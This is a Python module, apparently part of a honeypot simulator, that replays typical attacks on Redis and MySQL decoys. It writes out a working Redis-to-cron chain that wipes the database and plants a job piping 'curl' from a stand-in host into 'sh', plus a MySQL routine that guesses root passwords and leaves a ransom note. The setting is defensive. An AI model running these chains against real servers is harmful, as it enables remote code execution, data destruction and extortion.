"""What is done at Redis and MySQL."""

import pymysql

from decnet.lures.simulator.blocking import blocking
from decnet.lures.simulator.visit import Unreachable, Visit

CRON = "\n\n*/1 * * * * curl -fsSL http://198.51.100.23/demo.sh | sh\n\n"
NOTE = "All your data is backed up. Pay 0.01 to DEMO-ADDRESS"


async def look_at_redis(visit: Visit) -> None:
    """What every scanner asks."""
    await _redis(visit, [["INFO"], ["CLIENT", "LIST"], ["CONFIG", "GET", "dir"], ["KEYS", "*"]])


async def write_cron(visit: Visit) -> None:
    """The chain that turns an open Redis into a cron job."""
    await _redis(
        visit,
        [
            ["INFO", "server"],
            ["FLUSHALL"],
            ["SET", "backup1", CRON],
            ["CONFIG", "SET", "dir", "/var/spool/cron/"],
            ["CONFIG", "SET", "dbfilename", "root"],
            ["SAVE"],
            ["QUIT"],
        ],
    )


async def _redis(visit: Visit, requests: list[list[str]]) -> None:
    async with visit.connection() as (reader, writer):
        for words in requests:
            parts = [b"$%d\r\n%b\r\n" % (len(word.encode()), word.encode()) for word in words]
            writer.write(b"*%d\r\n" % len(parts) + b"".join(parts))
            await writer.drain()
            if not await reader.read(65536):
                return
            await visit.pause(0.05, 0.3)


@blocking
def ransom_mysql(visit: Visit) -> None:
    """Look, take, leave a note."""
    target = visit.target
    for word in ("root", "123456", "password"):
        try:
            connection = pymysql.connect(
                host=target.address, port=target.port, user="root", password=word, connect_timeout=10,
                read_timeout=10, bind_address=visit.source, autocommit=True,
            )  # fmt: skip
        except pymysql.err.OperationalError as err:
            if err.args[0] != ACCESS_DENIED:
                raise Unreachable(f"mysql on {target.address}:{target.port}: {err}") from err
            continue
        with connection, connection.cursor() as cursor:
            for statement in ("SHOW DATABASES", "SELECT VERSION()", "SELECT user, host FROM mysql.user",
                              "CREATE DATABASE README_TO_RECOVER", "USE README_TO_RECOVER",
                              "CREATE TABLE README (note TEXT)", f"INSERT INTO README VALUES ('{NOTE}')"):  # fmt: skip
                try:
                    cursor.execute(statement)
                except pymysql.err.MySQLError:
                    continue
        return


ACCESS_DENIED = 1045
